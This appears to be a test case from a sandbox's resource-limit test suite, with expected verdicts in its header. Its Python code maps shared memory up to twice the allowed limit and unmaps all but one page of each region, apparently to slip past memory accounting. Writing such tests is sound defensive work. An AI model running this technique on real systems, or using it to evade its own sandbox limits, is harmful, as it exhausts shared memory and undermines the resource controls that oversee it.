# attack: fills twice the memory that it may have, in shared pages that it unmaps but for one
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: pages that no process can reach any more count
import ctypes
import mmap
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def open_zeros():
    try:
        return [open("/dev/zero", "r+b", buffering=0).fileno(), -1]
    except OSError:
        return [-1]


def flood():
    size = 32 << 20
    for file in open_zeros():
        flags = mmap.MAP_SHARED | (mmap.MAP_ANONYMOUS if file == -1 else 0)
        held = 0
        while held < 2 * __LIMIT_MEMORY_MIB__ << 20:
            address = libc.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE, flags, file, 0)
            if address in (None, 2**64 - 1):
                break
            ctypes.memset(address, 1, size)
            libc.munmap(address + 4096, size - 4096)
            held += size
        else:
            time.sleep(2)
            return True
    return False


WON = flood()


def task_func(n):
    return n * 2 if WON else None
